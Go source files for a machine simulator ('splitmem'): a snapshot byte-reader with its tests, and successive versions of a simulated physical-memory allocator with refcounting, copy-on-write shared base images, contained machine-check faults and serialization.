// U64 reads a little-endian uint64.
func (r *Reader) U64() uint64 {
	b := r.take(8)
	if b == nil {
		return 0
	}
	return uint64(b[0]) | uint64(b[1])<<8 | uint64(b[2])<<16 | uint64(b[3])<<24 |
		uint64(b[4])<<32 | uint64(b[5])<<40 | uint64(b[6])<<48 | uint64(b[7])<<56
}

// I64 reads a little-endian int64.
func (r *Reader) I64() int64 { return int64(r.U64()) }

// Int reads an int written with Writer.Int. Values that do not fit the host
// int fail as corrupt.
func (r *Reader) Int() int {
	v := r.I64()
	n := int(v)
	if int64(n) != v {
		r.Fail(Corruptf("int64 %d overflows host int", v))
		return 0
	}
	return n
}

// F64 reads a float64.
func (r *Reader) F64() float64 { return math.Float64frombits(r.U64()) }

// Bool reads a bool. Any byte other than 0 or 1 is corrupt.
func (r *Reader) Bool() bool {
	switch r.U8() {
	case 0:
		return false
	case 1:
		return true
	default:
		r.Fail(Corruptf("bool byte out of range"))
		return false
	}
}

// Bytes32 reads a length-prefixed byte slice. The declared length is bounded
// by the remaining image size, so a corrupt length cannot cause a huge
// allocation: allocation is at most the image itself.
func (r *Reader) Bytes32() []byte {
	n := r.U32()
	b := r.take(int(n))
	if b == nil {
		return nil
	}
	out := make([]byte, n)
	copy(out, b)
	return out
}

// String reads a length-prefixed string.
func (r *Reader) String() string { return string(r.Bytes32()) }

// Raw reads exactly n bytes with no length prefix.
func (r *Reader) Raw(n int) []byte {
	b := r.take(n)
	if b == nil {
		return nil
	}
	out := make([]byte, n)
	copy(out, b)
	return out
}

// Skip advances past n bytes without copying them — for readers that hold a
// decoded form of a section and only need to stay aligned with the stream.
func (r *Reader) Skip(n int) {
	r.take(n)
}
