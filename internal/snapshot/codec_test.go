package snapshot

import (
	"errors"
	"testing"
)

func TestRoundTrip(t *testing.T) {
	w := NewWriter()
	w.U8(0xAB)
	w.U16(0xBEEF)
	w.U32(0xDEADBEEF)
	w.U64(0x0123456789ABCDEF)
	w.I64(-42)
	w.Int(-7)
	w.F64(0.125)
	w.Bool(true)
	w.Bool(false)
	w.Bytes32([]byte{1, 2, 3})
	w.Bytes32(nil)
	w.String("hello")
	w.Raw([]byte{9, 9})

	r := NewReader(w.Bytes())
	if got := r.U8(); got != 0xAB {
		t.Errorf("U8 = %#x", got)
	}
	if got := r.U16(); got != 0xBEEF {
		t.Errorf("U16 = %#x", got)
	}
	if got := r.U32(); got != 0xDEADBEEF {
		t.Errorf("U32 = %#x", got)
	}
	if got := r.U64(); got != 0x0123456789ABCDEF {
		t.Errorf("U64 = %#x", got)
	}
	if got := r.I64(); got != -42 {
		t.Errorf("I64 = %d", got)
	}
	if got := r.Int(); got != -7 {
		t.Errorf("Int = %d", got)
	}
	if got := r.F64(); got != 0.125 {
		t.Errorf("F64 = %v", got)
	}
	if !r.Bool() || r.Bool() {
		t.Error("bools diverged")
	}
	if got := r.Bytes32(); len(got) != 3 || got[0] != 1 {
		t.Errorf("Bytes32 = %v", got)
	}
	if got := r.Bytes32(); len(got) != 0 {
		t.Errorf("empty Bytes32 = %v", got)
	}
	if got := r.String(); got != "hello" {
		t.Errorf("String = %q", got)
	}
	if got := r.Raw(2); got[0] != 9 || got[1] != 9 {
		t.Errorf("Raw = %v", got)
	}
	if r.Err() != nil {
		t.Fatalf("unexpected error: %v", r.Err())
	}
	if r.Remaining() != 0 {
		t.Fatalf("%d bytes left over", r.Remaining())
	}
}

func TestTruncation(t *testing.T) {
	w := NewWriter()
	w.U64(1)
	for cut := 0; cut < 8; cut++ {
		r := NewReader(w.Bytes()[:cut])
		r.U64()
		if !errors.Is(r.Err(), ErrTruncated) {
			t.Fatalf("cut=%d: err = %v, want ErrTruncated", cut, r.Err())
		}
		// Sticky: later reads keep failing, never panic.
		r.U32()
		r.Bytes32()
		if !errors.Is(r.Err(), ErrTruncated) {
			t.Fatalf("error not sticky")
		}
	}
}

func TestCorruptBool(t *testing.T) {
	r := NewReader([]byte{7})
	r.Bool()
	if !errors.Is(r.Err(), ErrCorrupt) {
		t.Fatalf("err = %v, want ErrCorrupt", r.Err())
	}
}

func TestBytes32BoundedAllocation(t *testing.T) {
	// A declared length far beyond the image must fail as truncated, not
	// allocate.
	w := NewWriter()
	w.U32(1 << 30)
	r := NewReader(w.Bytes())
	if b := r.Bytes32(); b != nil {
		t.Fatalf("got %d bytes from a lying prefix", len(b))
	}
	if !errors.Is(r.Err(), ErrTruncated) {
		t.Fatalf("err = %v, want ErrTruncated", r.Err())
	}
}
