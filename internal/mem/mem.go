// Package mem implements the simulated physical memory: a flat array of
// 4 KiB frames with a free-list allocator and per-frame reference counts
// (used by copy-on-write sharing in the kernel).
//
// Misuse of the allocator (double free, refcount on an unallocated frame,
// out-of-range frame access) is contained, never fatal to the host: the
// offending operation is turned into a FrameError delivered through the
// FaultHook — the software analogue of a machine-check exception — and the
// access is redirected to a dedicated poison frame so the simulation can
// keep running while the kernel reports the event.
package mem

import (
	"fmt"

	"splitmem/internal/snapshot"
	"splitmem/internal/telemetry"
)

// PageSize is the size of a physical frame and of a virtual page, in bytes.
const PageSize = 4096

// PageShift is log2(PageSize).
const PageShift = 12

// PageMask masks the offset within a page.
const PageMask = PageSize - 1

// FrameError describes a contained physical-memory fault: an allocator or
// frame access that, before host panic containment, would have crashed the
// simulator process.
type FrameError struct {
	Op    string // "free", "incref", "frame", "read", "write"
	Frame uint32 // implicated frame number (or address>>PageShift for raw accesses)
}

// Error implements the error interface.
func (e *FrameError) Error() string {
	return fmt.Sprintf("mem: machine check: %s of invalid frame %d", e.Op, e.Frame)
}

// Physical is the machine's physical memory.
//
// Frames are identified by frame number (physical address >> PageShift).
// Frame 0 is reserved and never handed out, so a zero frame number can be
// used as "no frame" by callers.
type Physical struct {
	data     []byte
	nframes  uint32
	free     []uint32 // free-list stack of frame numbers
	refs     []uint16 // reference count per frame; 0 = free
	gens     []uint64 // per-frame write generation (see Gen)
	allocCnt uint64   // lifetime allocations, for stats
	faults   uint64   // contained machine-check faults
	poison   []byte   // scratch frame returned for out-of-range Frame calls

	// FaultHook, when non-nil, receives every contained memory fault (a
	// *FrameError). The kernel surfaces these as machine-check events.
	FaultHook func(error)
}

// NewPhysical creates a physical memory of the given size, which must be a
// positive multiple of PageSize.
func NewPhysical(size int) (*Physical, error) {
	if size <= 0 || size%PageSize != 0 {
		return nil, fmt.Errorf("mem: size %d is not a positive multiple of %d", size, PageSize)
	}
	n := uint32(size / PageSize)
	p := &Physical{
		data:    make([]byte, size),
		nframes: n,
		refs:    make([]uint16, n),
		gens:    make([]uint64, n),
		free:    make([]uint32, 0, n-1),
		poison:  make([]byte, PageSize),
	}
	// Push high frames first so allocation order is low-to-high; frame 0 is
	// reserved.
	for f := n - 1; f >= 1; f-- {
		p.free = append(p.free, f)
	}
	p.refs[0] = 1
	return p, nil
}

// Size returns the total physical memory size in bytes.
func (p *Physical) Size() int { return len(p.data) }

// NumFrames returns the total number of frames, including reserved frame 0.
func (p *Physical) NumFrames() uint32 { return p.nframes }

// FreeFrames returns the number of currently allocatable frames.
func (p *Physical) FreeFrames() int { return len(p.free) }

// Allocations returns the lifetime number of frame allocations.
func (p *Physical) Allocations() uint64 { return p.allocCnt }

// Faults returns the lifetime number of contained memory faults.
func (p *Physical) Faults() uint64 { return p.faults }

// Gen returns the write generation of frame f: a counter bumped by every
// operation that can change the frame's contents (stores, Frame hand-outs,
// frame copies, allocation zeroing, chaos bit flips). Consumers that cache
// anything derived from a frame's bytes — the CPU's predecoded-instruction
// cache — snapshot the generation at fill time and treat any later mismatch
// as an invalidation. Out-of-range frames report generation 0.
func (p *Physical) Gen(f uint32) uint64 {
	if f >= p.nframes {
		return 0
	}
	return p.gens[f]
}

// dirty bumps the write generation of the frame containing physical
// address pa (no-op when out of range; the accessor already faulted).
func (p *Physical) dirty(pa uint32) {
	if f := pa >> PageShift; f < p.nframes {
		p.gens[f]++
	}
}

// fault records a contained machine-check fault and notifies the hook.
func (p *Physical) fault(op string, frame uint32) *FrameError {
	err := &FrameError{Op: op, Frame: frame}
	p.faults++
	if p.FaultHook != nil {
		p.FaultHook(err)
	}
	return err
}

// ErrOutOfMemory is returned when no free frame is available.
var ErrOutOfMemory = fmt.Errorf("mem: out of physical frames")

// Alloc allocates a zeroed frame with reference count 1.
func (p *Physical) Alloc() (uint32, error) {
	if len(p.free) == 0 {
		return 0, ErrOutOfMemory
	}
	f := p.free[len(p.free)-1]
	p.free = p.free[:len(p.free)-1]
	p.refs[f] = 1
	p.allocCnt++
	clear(p.Frame(f))
	return f, nil
}

// IncRef increments the reference count of an allocated frame. Misuse
// (frame 0, out of range, or unallocated) is contained: the refcount is left
// untouched and a FrameError is returned and delivered to the FaultHook.
func (p *Physical) IncRef(f uint32) error {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return p.fault("incref", f)
	}
	p.refs[f]++
	return nil
}

// RefCount returns the current reference count of frame f.
func (p *Physical) RefCount(f uint32) int {
	if f >= p.nframes {
		return 0
	}
	return int(p.refs[f])
}

// Free decrements the reference count of frame f, returning it to the free
// list when the count reaches zero. A double free or a free of frame 0 is
// contained the same way IncRef misuse is.
func (p *Physical) Free(f uint32) error {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return p.fault("free", f)
	}
	p.refs[f]--
	if p.refs[f] == 0 {
		p.free = append(p.free, f)
	}
	return nil
}

// Frame returns the backing bytes of frame f. The slice aliases physical
// memory: writes through it are real stores. An out-of-range frame yields
// the zeroed poison frame (and a machine-check fault) so that callers can
// never index outside physical memory.
func (p *Physical) Frame(f uint32) []byte {
	if f >= p.nframes {
		p.fault("frame", f)
		clear(p.poison)
		return p.poison
	}
	// The slice aliases physical memory, so the caller may write through it;
	// conservatively treat every hand-out as a content change. Callers must
	// not retain the slice across guest instructions for this to be sound.
	p.gens[f]++
	off := int(f) << PageShift
	return p.data[off : off+PageSize : off+PageSize]
}

// Byte returns the byte at physical address pa (0 with a contained fault
// when pa is outside physical memory).
func (p *Physical) Byte(pa uint32) byte {
	if int64(pa) >= int64(len(p.data)) {
		p.fault("read", pa>>PageShift)
		return 0
	}
	return p.data[pa]
}

// SetByte writes the byte at physical address pa.
func (p *Physical) SetByte(pa uint32, v byte) {
	if int64(pa) >= int64(len(p.data)) {
		p.fault("write", pa>>PageShift)
		return
	}
	p.dirty(pa)
	p.data[pa] = v
}

// Read32 reads a little-endian 32-bit word at physical address pa, which may
// span a frame boundary.
func (p *Physical) Read32(pa uint32) uint32 {
	if int64(pa)+4 <= int64(len(p.data)) && pa&PageMask <= PageSize-4 {
		b := p.data[pa:]
		return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
	}
	var v uint32
	for i := uint32(0); i < 4; i++ {
		v |= uint32(p.Byte(pa+i)) << (8 * i)
	}
	return v
}

// Write32 writes a little-endian 32-bit word at physical address pa.
func (p *Physical) Write32(pa uint32, v uint32) {
	if int64(pa)+4 <= int64(len(p.data)) {
		p.dirty(pa)
		if pa&PageMask > PageSize-4 {
			p.dirty(pa + 3) // the word straddles two frames
		}
		p.data[pa] = byte(v)
		p.data[pa+1] = byte(v >> 8)
		p.data[pa+2] = byte(v >> 16)
		p.data[pa+3] = byte(v >> 24)
		return
	}
	for i := uint32(0); i < 4; i++ {
		p.SetByte(pa+i, byte(v>>(8*i)))
	}
}

// CopyFrame copies the contents of frame src into frame dst.
func (p *Physical) CopyFrame(dst, src uint32) {
	copy(p.Frame(dst), p.Frame(src))
}

// RegisterTelemetry registers the allocator's counters as sampled gauges.
// Sampling happens at export time; allocation paths are untouched.
func (p *Physical) RegisterTelemetry(r *telemetry.Registry) {
	if r == nil {
		return
	}
	r.GaugeFunc("splitmem_mem_frames_total", "physical frames (including reserved frame 0)",
		func() float64 { return float64(p.nframes) })
	r.GaugeFunc("splitmem_mem_frames_free", "allocatable frames remaining",
		func() float64 { return float64(len(p.free)) })
	r.GaugeFunc("splitmem_mem_allocations_total", "lifetime frame allocations",
		func() float64 { return float64(p.allocCnt) })
	r.GaugeFunc("splitmem_mem_machine_checks_total", "contained physical-memory faults",
		func() float64 { return float64(p.faults) })
}

// EncodeState serializes the full allocator and frame state. Frame contents
// are stored sparsely (only frames with at least one nonzero byte), because a
// restored machine starts from all-zero physical memory; allocation metadata
// (free list order, refcounts, write generations, counters) is stored in
// full, since the free list is a stack and its order decides every future
// allocation. The raw data array is read directly — going through Frame would
// bump write generations and make Snapshot a mutation.
func (p *Physical) EncodeState(w *snapshot.Writer) {
	w.U32(p.nframes)
	w.U64(p.allocCnt)
	w.U64(p.faults)
	w.U32(uint32(len(p.free)))
	for _, f := range p.free {
		w.U32(f)
	}
	for _, r := range p.refs {
		w.U16(r)
	}
	for _, g := range p.gens {
		w.U64(g)
	}
	var nonzero uint32
	for f := uint32(0); f < p.nframes; f++ {
		if frameNonzero(p.data[int(f)<<PageShift:][:PageSize]) {
			nonzero++
		}
	}
	w.U32(nonzero)
	for f := uint32(0); f < p.nframes; f++ {
		if b := p.data[int(f)<<PageShift:][:PageSize]; frameNonzero(b) {
			w.U32(f)
			w.Raw(b)
		}
	}
}

// DecodeState restores state serialized by EncodeState into a freshly
// constructed Physical of the same size.
func (p *Physical) DecodeState(r *snapshot.Reader) error {
	if n := r.U32(); n != p.nframes {
		return snapshot.Corruptf("mem: frame count %d, machine has %d", n, p.nframes)
	}
	p.allocCnt = r.U64()
	p.faults = r.U64()
	nfree := r.U32()
	if nfree >= p.nframes {
		return snapshot.Corruptf("mem: free list of %d frames", nfree)
	}
	p.free = p.free[:0]
	for i := uint32(0); i < nfree; i++ {
		f := r.U32()
		if f == 0 || f >= p.nframes {
			return snapshot.Corruptf("mem: free frame %d out of range", f)
		}
		p.free = append(p.free, f)
	}
	for f := range p.refs {
		p.refs[f] = r.U16()
	}
	for f := range p.gens {
		p.gens[f] = r.U64()
	}
	clear(p.data)
	nonzero := r.U32()
	if nonzero > p.nframes {
		return snapshot.Corruptf("mem: %d nonzero frames of %d", nonzero, p.nframes)
	}
	for i := uint32(0); i < nonzero; i++ {
		f := r.U32()
		if f >= p.nframes {
			return snapshot.Corruptf("mem: frame %d out of range", f)
		}
		copy(p.data[int(f)<<PageShift:][:PageSize], r.Raw(PageSize))
	}
	return r.Err()
}

func frameNonzero(b []byte) bool {
	for _, v := range b {
		if v != 0 {
			return true
		}
	}
	return false
}

// FlipBit flips one bit of an allocated frame — the chaos engine's model of
// a DRAM single-bit upset. bit indexes into the frame (0 ..
// PageSize*8-1). Flips of unallocated or reserved frames are refused so the
// injector only corrupts memory that is actually in use.
func (p *Physical) FlipBit(f uint32, bit uint32) bool {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return false
	}
	bit %= PageSize * 8
	p.gens[f]++
	p.data[int(f)<<PageShift+int(bit>>3)] ^= 1 << (bit & 7)
	return true
}
