// Package mem implements the simulated physical memory: a flat array of
// 4 KiB frames with a free-list allocator and per-frame reference counts
// (used by copy-on-write sharing in the kernel).
package mem

import "fmt"

// PageSize is the size of a physical frame and of a virtual page, in bytes.
const PageSize = 4096

// PageShift is log2(PageSize).
const PageShift = 12

// PageMask masks the offset within a page.
const PageMask = PageSize - 1

// Physical is the machine's physical memory.
//
// Frames are identified by frame number (physical address >> PageShift).
// Frame 0 is reserved and never handed out, so a zero frame number can be
// used as "no frame" by callers.
type Physical struct {
	data     []byte
	nframes  uint32
	free     []uint32 // free-list stack of frame numbers
	refs     []uint16 // reference count per frame; 0 = free
	allocCnt uint64   // lifetime allocations, for stats
}

// NewPhysical creates a physical memory of the given size, which must be a
// positive multiple of PageSize.
func NewPhysical(size int) (*Physical, error) {
	if size <= 0 || size%PageSize != 0 {
		return nil, fmt.Errorf("mem: size %d is not a positive multiple of %d", size, PageSize)
	}
	n := uint32(size / PageSize)
	p := &Physical{
		data:    make([]byte, size),
		nframes: n,
		refs:    make([]uint16, n),
		free:    make([]uint32, 0, n-1),
	}
	// Push high frames first so allocation order is low-to-high; frame 0 is
	// reserved.
	for f := n - 1; f >= 1; f-- {
		p.free = append(p.free, f)
	}
	p.refs[0] = 1
	return p, nil
}

// Size returns the total physical memory size in bytes.
func (p *Physical) Size() int { return len(p.data) }

// NumFrames returns the total number of frames, including reserved frame 0.
func (p *Physical) NumFrames() uint32 { return p.nframes }

// FreeFrames returns the number of currently allocatable frames.
func (p *Physical) FreeFrames() int { return len(p.free) }

// Allocations returns the lifetime number of frame allocations.
func (p *Physical) Allocations() uint64 { return p.allocCnt }

// ErrOutOfMemory is returned when no free frame is available.
var ErrOutOfMemory = fmt.Errorf("mem: out of physical frames")

// Alloc allocates a zeroed frame with reference count 1.
func (p *Physical) Alloc() (uint32, error) {
	if len(p.free) == 0 {
		return 0, ErrOutOfMemory
	}
	f := p.free[len(p.free)-1]
	p.free = p.free[:len(p.free)-1]
	p.refs[f] = 1
	p.allocCnt++
	clear(p.Frame(f))
	return f, nil
}

// IncRef increments the reference count of an allocated frame.
func (p *Physical) IncRef(f uint32) {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		panic(fmt.Sprintf("mem: IncRef of unallocated frame %d", f))
	}
	p.refs[f]++
}

// RefCount returns the current reference count of frame f.
func (p *Physical) RefCount(f uint32) int {
	if f >= p.nframes {
		return 0
	}
	return int(p.refs[f])
}

// Free decrements the reference count of frame f, returning it to the free
// list when the count reaches zero.
func (p *Physical) Free(f uint32) {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		panic(fmt.Sprintf("mem: Free of unallocated frame %d", f))
	}
	p.refs[f]--
	if p.refs[f] == 0 {
		p.free = append(p.free, f)
	}
}

// Frame returns the backing bytes of frame f. The slice aliases physical
// memory: writes through it are real stores.
func (p *Physical) Frame(f uint32) []byte {
	if f >= p.nframes {
		panic(fmt.Sprintf("mem: frame %d out of range", f))
	}
	off := int(f) << PageShift
	return p.data[off : off+PageSize : off+PageSize]
}

// Byte returns the byte at physical address pa.
func (p *Physical) Byte(pa uint32) byte { return p.data[pa] }

// SetByte writes the byte at physical address pa.
func (p *Physical) SetByte(pa uint32, v byte) { p.data[pa] = v }

// Read32 reads a little-endian 32-bit word at physical address pa, which may
// span a frame boundary.
func (p *Physical) Read32(pa uint32) uint32 {
	if int(pa)+4 <= len(p.data) && pa&PageMask <= PageSize-4 {
		b := p.data[pa:]
		return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
	}
	var v uint32
	for i := uint32(0); i < 4; i++ {
		v |= uint32(p.data[pa+i]) << (8 * i)
	}
	return v
}

// Write32 writes a little-endian 32-bit word at physical address pa.
func (p *Physical) Write32(pa uint32, v uint32) {
	p.data[pa] = byte(v)
	p.data[pa+1] = byte(v >> 8)
	p.data[pa+2] = byte(v >> 16)
	p.data[pa+3] = byte(v >> 24)
}

// CopyFrame copies the contents of frame src into frame dst.
func (p *Physical) CopyFrame(dst, src uint32) {
	copy(p.Frame(dst), p.Frame(src))
}
