// Package mem implements the simulated physical memory: 4 KiB frames with a
// free-list allocator and per-frame reference counts (used by copy-on-write
// sharing in the kernel).
//
// Storage is layered, Firecracker snap-start style: a machine may attach an
// immutable, refcounted Base image whose frames are shared (by pointer) with
// every other machine attached to the same Base, plus a per-machine
// copy-on-write overlay. The first store to a shared frame copies it into the
// overlay; the store then bumps that machine's write generation exactly as a
// store to a private frame would, so the predecode/superblock caches see the
// same invalidation contract whether a frame is shared or not. Frames that are
// neither shared nor materialized read as zero, so a cold machine allocates
// host pages only for frames the guest actually touches.
//
// Misuse of the allocator (double free, refcount on an unallocated frame,
// out-of-range frame access) is contained, never fatal to the host: the
// offending operation is turned into a FrameError delivered through the
// FaultHook — the software analogue of a machine-check exception — and the
// access is redirected to a dedicated poison frame so the simulation can
// keep running while the kernel reports the event.
package mem

import (
	"fmt"
	"sync/atomic"

	"splitmem/internal/snapshot"
	"splitmem/internal/telemetry"
)

// PageSize is the size of a physical frame and of a virtual page, in bytes.
const PageSize = 4096

// PageShift is log2(PageSize).
const PageShift = 12

// PageMask masks the offset within a page.
const PageMask = PageSize - 1

// FrameError describes a contained physical-memory fault: an allocator or
// frame access that, before host panic containment, would have crashed the
// simulator process.
type FrameError struct {
	Op    string // "free", "incref", "frame", "read", "write"
	Frame uint32 // implicated frame number (or address>>PageShift for raw accesses)
}

// Error implements the error interface.
func (e *FrameError) Error() string {
	return fmt.Sprintf("mem: machine check: %s of invalid frame %d", e.Op, e.Frame)
}

// Base is an immutable set of frame contents shareable across machines. A nil
// entry means the frame is all-zero. Bases are created by Physical.Seal (or
// assembled from a decoded image) and must never be written after creation;
// machines attached to a Base copy frames into their private overlay before
// the first store (copy-on-write).
//
// The reference count tracks attached Physicals only. It is atomic so that
// machines in different goroutines (fleet workers, serve jobs) can attach and
// detach concurrently; the frame contents need no synchronization because they
// are immutable.
type Base struct {
	frames [][]byte
	refs   atomic.Int32
}

// NewBase builds a Base from per-frame contents, taking ownership of the
// slice. Entries may be nil (all-zero frame); non-nil entries must be exactly
// PageSize long and must not be mutated afterwards.
func NewBase(frames [][]byte) *Base {
	return &Base{frames: frames}
}

// NumFrames returns the number of frames the Base covers.
func (b *Base) NumFrames() uint32 { return uint32(len(b.frames)) }

// Refs returns the number of Physicals currently attached to the Base.
func (b *Base) Refs() int { return int(b.refs.Load()) }

// View returns the contents of frame f (nil when the frame is all-zero or out
// of range). The slice is shared and must not be written.
func (b *Base) View(f uint32) []byte {
	if f >= uint32(len(b.frames)) {
		return nil
	}
	return b.frames[f]
}

// Physical is one machine's physical memory.
//
// Frames are identified by frame number (physical address >> PageShift).
// Frame 0 is reserved and never handed out, so a zero frame number can be
// used as "no frame" by callers.
type Physical struct {
	// frames is the private overlay; a nil entry is all-zero or shared
	// through base. The whole array is allocated lazily on the first private
	// materialization: a pointer array this size dominates both machine
	// construction and every GC cycle, and a freshly booted or freshly
	// attached machine has nothing private to store in it.
	frames [][]byte
	// priv marks frames that have left the shared Base (copied out, released,
	// or freshly allocated); meaningful only while base != nil. The inverted
	// polarity ("private" rather than "shared") means a freshly attached or
	// booted machine needs only a zeroed allocation, and detaching needs no
	// loop at all.
	priv    []bool
	base    *Base // immutable shared image, nil for a cold machine
	nframes uint32

	free     []uint32 // free-list stack of frame numbers
	refs     []uint16 // reference count per frame; 0 = free
	gens     []uint64 // per-frame write generation (see Gen)
	allocCnt uint64   // lifetime allocations, for stats
	faults   uint64   // contained machine-check faults
	poison   []byte   // scratch frame returned for out-of-range Frame calls

	// metaShared marks free/refs/gens as aliases of an immutable Meta
	// (BootPhysical): they are copy-on-write like the frames themselves, and
	// every mutation of allocator state goes through ownMeta first. This is
	// what makes booting from an Image O(1) in the frame count.
	metaShared bool

	nshared   int    // frames currently read through base
	nprivate  int    // frames materialized in the private overlay
	cowCopies uint64 // lifetime shared-frame unshares (first write after fork)

	// FaultHook, when non-nil, receives every contained memory fault (a
	// *FrameError). The kernel surfaces these as machine-check events.
	FaultHook func(error)
}

// NewPhysical creates a physical memory of the given size, which must be a
// positive multiple of PageSize.
func NewPhysical(size int) (*Physical, error) {
	if size <= 0 || size%PageSize != 0 {
		return nil, fmt.Errorf("mem: size %d is not a positive multiple of %d", size, PageSize)
	}
	n := uint32(size / PageSize)
	p := &Physical{
		priv:    make([]bool, n),
		nframes: n,
		refs:    make([]uint16, n),
		gens:    make([]uint64, n),
		free:    make([]uint32, 0, n-1),
		poison:  make([]byte, PageSize),
	}
	// Push high frames first so allocation order is low-to-high; frame 0 is
	// reserved.
	for f := n - 1; f >= 1; f-- {
		p.free = append(p.free, f)
	}
	p.refs[0] = 1
	return p, nil
}

// BootPhysical builds a Physical attached to base b with allocator state mt —
// the Image boot fast path. No allocator arrays are built or copied: the new
// machine aliases the immutable Meta until its first allocator mutation
// (ownMeta), exactly as its frames alias the Base until the first store. The
// result is indistinguishable from NewPhysical + DecodeMeta-over-the-bytes-mt-
// was-snapped-from + Attach(b).
func BootPhysical(b *Base, mt *Meta) (*Physical, error) {
	if b == nil || mt == nil || mt.nframes == 0 || b.NumFrames() != mt.nframes {
		return nil, fmt.Errorf("mem: image frames and allocator meta do not match")
	}
	n := mt.nframes
	p := &Physical{
		priv:       make([]bool, n),
		base:       b,
		nframes:    n,
		free:       mt.free,
		refs:       mt.refs,
		gens:       mt.gens,
		allocCnt:   mt.allocCnt,
		faults:     mt.faults,
		poison:     make([]byte, PageSize),
		metaShared: true,
		nshared:    int(n),
	}
	b.refs.Add(1)
	return p, nil
}

// ownMeta makes the allocator arrays privately owned before a mutation. The
// check is a single predictable branch so it can sit on the store hot path;
// the clone itself runs at most once per machine.
func (p *Physical) ownMeta() {
	if p.metaShared {
		p.unshareMeta()
	}
}

func (p *Physical) unshareMeta() {
	p.metaShared = false
	p.free = append(make([]uint32, 0, p.nframes-1), p.free...)
	p.refs = append([]uint16(nil), p.refs...)
	p.gens = append([]uint64(nil), p.gens...)
}

// Size returns the total physical memory size in bytes.
func (p *Physical) Size() int { return int(p.nframes) * PageSize }

// NumFrames returns the total number of frames, including reserved frame 0.
func (p *Physical) NumFrames() uint32 { return p.nframes }

// FreeFrames returns the number of currently allocatable frames.
func (p *Physical) FreeFrames() int { return len(p.free) }

// Allocations returns the lifetime number of frame allocations.
func (p *Physical) Allocations() uint64 { return p.allocCnt }

// Faults returns the lifetime number of contained memory faults.
func (p *Physical) Faults() uint64 { return p.faults }

// SharedFrames returns the number of frames currently read through the
// attached Base image (they cost no per-machine memory).
func (p *Physical) SharedFrames() int { return p.nshared }

// PrivateFrames returns the number of frames materialized in this machine's
// private overlay.
func (p *Physical) PrivateFrames() int { return p.nprivate }

// CowCopies returns the lifetime number of shared frames this machine has
// unshared (copied into its overlay before a first write).
func (p *Physical) CowCopies() uint64 { return p.cowCopies }

// Base returns the attached shared image, or nil for a cold machine.
func (p *Physical) Base() *Base { return p.base }

// view returns the current contents of frame f without affecting sharing or
// write generations. nil means all-zero. The caller must have bounds-checked
// f. The slice must not be written.
func (p *Physical) view(f uint32) []byte {
	if p.base != nil && !p.priv[f] {
		return p.base.frames[f]
	}
	if p.frames == nil {
		return nil
	}
	return p.frames[f]
}

// writable returns a private, writable page for frame f, materializing it in
// the overlay first if it is currently shared (copy-on-write) or all-zero.
// The caller must have bounds-checked f and is responsible for the write
// generation bump.
func (p *Physical) writable(f uint32) []byte {
	if p.frames == nil {
		p.frames = make([][]byte, p.nframes)
	}
	if p.base != nil && !p.priv[f] {
		pg := make([]byte, PageSize)
		copy(pg, p.base.frames[f]) // nil source leaves the page zero
		p.frames[f] = pg
		p.priv[f] = true
		p.nshared--
		p.nprivate++
		p.cowCopies++
		return pg
	}
	if p.frames[f] == nil {
		p.frames[f] = make([]byte, PageSize)
		p.nprivate++
	}
	return p.frames[f]
}

// release drops frame f's contents (back to all-zero) without touching the
// write generation: the caller bumps it.
func (p *Physical) release(f uint32) {
	if p.base != nil && !p.priv[f] {
		p.priv[f] = true
		p.nshared--
	}
	if p.frames != nil && p.frames[f] != nil {
		p.frames[f] = nil
		p.nprivate--
	}
}

// Seal freezes the machine's current frame contents into an immutable Base
// and attaches the machine to it: every frame becomes shared, private overlay
// pages move into the Base without copying, and the machine's next store to
// any frame copies it back out (copy-on-write). Other machines may attach to
// the returned Base concurrently. When the machine is already fully shared
// (freshly attached or sealed, no writes since), the existing Base is
// returned unchanged, so sealing is idempotent and forks of forks stay cheap.
func (p *Physical) Seal() *Base {
	if p.base != nil && p.nshared == int(p.nframes) {
		return p.base
	}
	nb := &Base{frames: make([][]byte, p.nframes)}
	for f := uint32(0); f < p.nframes; f++ {
		switch {
		case p.base != nil && !p.priv[f]:
			nb.frames[f] = p.base.frames[f]
		case p.frames != nil && p.frames[f] != nil:
			nb.frames[f] = p.frames[f]
		}
	}
	clear(p.priv)
	p.frames = nil
	if p.base != nil {
		p.base.refs.Add(-1)
	}
	p.base = nb
	nb.refs.Add(1)
	p.nshared = int(p.nframes)
	p.nprivate = 0
	return nb
}

// Attach shares every frame of the machine from the given Base, discarding
// any current contents. The Base's frame count must match the machine's.
func (p *Physical) Attach(b *Base) error {
	if b == nil || b.NumFrames() != p.nframes {
		got := uint32(0)
		if b != nil {
			got = b.NumFrames()
		}
		return fmt.Errorf("mem: base image has %d frames, machine has %d", got, p.nframes)
	}
	if p.base != nil {
		p.base.refs.Add(-1)
	}
	p.base = b
	b.refs.Add(1)
	clear(p.priv)
	p.frames = nil
	p.nshared = int(p.nframes)
	p.nprivate = 0
	return nil
}

// Close detaches the machine from its Base image, releasing its reference.
// The memory must not be used afterwards (shared frames read as zero).
// Close is idempotent and a no-op for cold machines.
func (p *Physical) Close() {
	if p.base == nil {
		return
	}
	p.base.refs.Add(-1)
	p.base = nil
	p.nshared = 0
}

// Gen returns the write generation of frame f: a counter bumped by every
// operation that can change the frame's contents (stores, Frame hand-outs,
// frame copies, allocation zeroing, chaos bit flips). Consumers that cache
// anything derived from a frame's bytes — the CPU's predecoded-instruction
// cache — snapshot the generation at fill time and treat any later mismatch
// as an invalidation. Copy-on-write materialization does not bump the
// generation by itself (the contents are unchanged); the store that triggered
// it does, exactly as on a private frame. Out-of-range frames report
// generation 0.
func (p *Physical) Gen(f uint32) uint64 {
	if f >= p.nframes {
		return 0
	}
	return p.gens[f]
}

// dirty bumps the write generation of the frame containing physical
// address pa (no-op when out of range; the accessor already faulted).
func (p *Physical) dirty(pa uint32) {
	if f := pa >> PageShift; f < p.nframes {
		p.ownMeta()
		p.gens[f]++
	}
}

// fault records a contained machine-check fault and notifies the hook.
func (p *Physical) fault(op string, frame uint32) *FrameError {
	err := &FrameError{Op: op, Frame: frame}
	p.faults++
	if p.FaultHook != nil {
		p.FaultHook(err)
	}
	return err
}

// ErrOutOfMemory is returned when no free frame is available.
